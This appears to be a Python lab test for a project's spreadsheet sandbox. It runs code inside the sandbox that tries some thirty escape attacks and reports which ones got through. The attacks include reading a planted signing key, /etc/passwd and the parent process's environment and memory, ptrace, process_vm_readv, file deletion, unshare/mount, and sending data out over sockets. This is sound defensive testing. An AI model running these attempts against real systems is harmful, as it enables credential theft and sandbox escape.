"""What code inside the sandbox would try. `python -m tests.lab.sandbox_attack FOLDER WAY...`: a run with secrets lets it try, and prints what it got."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import sys
import tempfile
import threading
from pathlib import Path

from jagadata.adapters.spreadsheets import sandbox
from jagadata.office.collection import Limits

libc = ctypes.CDLL(None, use_errno=True)
SYSCALLS = {"process_vm_readv": 310, "pidfd_open": 434} if os.uname().machine == "x86_64" else {}
SECRET = "kunci-tanda-tangan-rahasia"
_SEIZE, _NEWUSER, _NEWNS, _NEWNET = 0x4206, 0x10000000, 0x00020000, 0x40000000


def call(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return str(result)


def read(path):
    return Path(path).read_text(encoding="utf-8", errors="replace")[:4000]


def touch(path):
    Path(path).write_text("x", encoding="ascii")
    return "written"


def vm_read(pid):
    """16 bytes of the parent's memory, from where the attacker's own library lies."""
    here = ctypes.create_string_buffer(16)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(here), 16)
    remote = (ctypes.c_size_t * 2)(ctypes.cast(libc.getpid, ctypes.c_void_p).value, 16)
    return call(libc.syscall(SYSCALLS["process_vm_readv"], pid, local, 1, remote, 1, 0))


def connect(family, kind, address, data=b"bocor"):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.sendall(data)
    return "sent"


def attacks(facts):
    """Name of each attack and what does it; it fails with OSError where the sandbox holds."""
    parent, folder = facts["parent"], Path(facts["folder"])
    key = folder / "kunci.pem"
    mount = {"pasang sistem berkas": lambda: call(libc.mount(b"none", b"/", b"tmpfs", 0, None))}
    return {
        **(mount if facts["shut"] else {}),  # else it would be this machine's
        "baca kunci tanda tangan": lambda: read(key),
        "baca berkas mesin (/etc/passwd)": lambda: read("/etc/passwd"),
        "baca lingkungan proses induk": lambda: read(f"/proc/{parent}/environ"),
        "baca memori proses induk (/proc)": lambda: os.close(os.open(f"/proc/{parent}/mem", os.O_RDONLY)) or "",
        "baca berkas terbuka proses induk": lambda: str(list(Path(f"/proc/{parent}/fd").iterdir())),
        "lihat folder kerja": lambda: str(list(folder.iterdir())),
        "lihat pustaka program": lambda: str(list(Path(sandbox.__file__).parent.iterdir())),
        "tulis di folder kerja": lambda: touch(folder / "tulisan"),
        "tulis di /tmp": lambda: os.close(os.open("/tmp", os.O_TMPFILE | os.O_WRONLY)) or "",
        "tulis di /": lambda: touch("/jagadata-uji-tulis") and Path("/jagadata-uji-tulis").unlink(),
        "hapus berkas": (folder / "korban").unlink,
        "ganti nama berkas": lambda: (folder / "korban2").rename(folder / "korban3"),
        "potong berkas": lambda: os.truncate(folder / "korban4", 0),
        "ubah izin berkas": lambda: (folder / "korban5").chmod(0o640),
        "buat tautan ke kunci": lambda: (folder / "tautan").symlink_to(key),
        "kirim TCP ke mesin ini": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, facts["tcp"]),
        "kirim UDP ke mesin ini": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, facts["udp"]),
        "kirim lewat soket berkas": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, facts["path"]),
        "kirim lewat soket abstrak": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + facts["abstract"]),
        "kirim UDP ke luar": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
        "lacak proses induk (ptrace)": lambda: call(libc.ptrace(_SEIZE, parent, None, None)),
        "baca memori proses induk (process_vm_readv)": lambda: vm_read(parent),
        "pegang proses induk (pidfd)": lambda: call(libc.syscall(SYSCALLS["pidfd_open"], parent, 0)),
        "kirim sinyal ke proses induk": lambda: os.kill(parent, signal.SIGUSR1),
        "jalankan program": lambda: str(os.posix_spawn("/bin/true", ["true"], {})),
        "keluar dari ruang nama": lambda: call(libc.unshare(_NEWUSER | _NEWNS)),
        "naikkan batas waktu": lambda: resource.setrlimit(resource.RLIMIT_CPU, (9999, 9999)),
    }  # fmt: skip


def attack(facts):
    """{attack: what it got}; '' where it was stopped."""
    found = {}
    for name, act in attacks(facts).items():
        try:
            got = act()
        except (OSError, ValueError, KeyError):
            found[name] = ""
        else:
            found[name] = str(got) or "done"
    found["lingkungan sendiri"] = "".join(f"{name}=" for name in os.environ)
    found["berkas terbuka lain"] = "".join(f"{one} " for one in range(6, 64) if _is_open(one))
    return found


def _is_open(descriptor):
    with contextlib.suppress(OSError):
        os.fstat(descriptor)
        return True
    return False


def main(folder, ways):
    """A run with a key, an environment, listeners; prints what the attack got and what reached the listeners."""
    for name in ("korban", "korban2", "korban4", "korban5"):
        (folder / name).write_text("utuh", encoding="ascii")
    key = folder / "kunci.pem"
    key.write_text(SECRET, encoding="ascii")
    key.chmod(0o600)
    reached = []
    signal.signal(signal.SIGUSR1, lambda *_: reached.append("sinyal"))
    with contextlib.ExitStack() as stack, tempfile.TemporaryFile(buffering=0) as into:

        def listen(family, kind, address):
            one = stack.enter_context(socket.socket(family, kind))
            one.bind(address)
            if kind == socket.SOCK_STREAM:
                one.listen()
                threading.Thread(target=answer_one, args=(one,), daemon=True).start()
            return one.getsockname()

        def answer_one(listener):
            one, _address = listener.accept()
            reached.append("soket")
            one.recv(10)

        listeners = {
            "udp": listen(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
            "tcp": listen(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
            "path": listen(socket.AF_UNIX, socket.SOCK_STREAM, str(folder / "soket")),
        }  # fmt: skip
        listen(socket.AF_UNIX, socket.SOCK_STREAM, f"\0jaga-{os.getpid()}")
        facts = {
            **listeners,
            "abstract": f"jaga-{os.getpid()}",
            "parent": os.getpid(),
            "shut": bool(ways),
            "folder": str(folder),
        }
        sent = folder / "dikirim"
        sent.write_bytes(b"isi kiriman")
        order = sandbox.Order(
            path=sent, folder=folder, limits=Limits(), ways=tuple(ways), unconfined=not ways
        )

        def work(path, _sink):
            return {"own": path.read_bytes().decode(), "got": attack(facts)}

        answer = sandbox.work_apart(order, work, 1 << 40, into)
    sys.stdout.write(json.dumps({**answer, "reached": reached, "key": key.read_text(encoding="ascii")}))
    sys.stdout.flush()
    os._exit(0)  # the listeners' threads wait for ever


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2:])
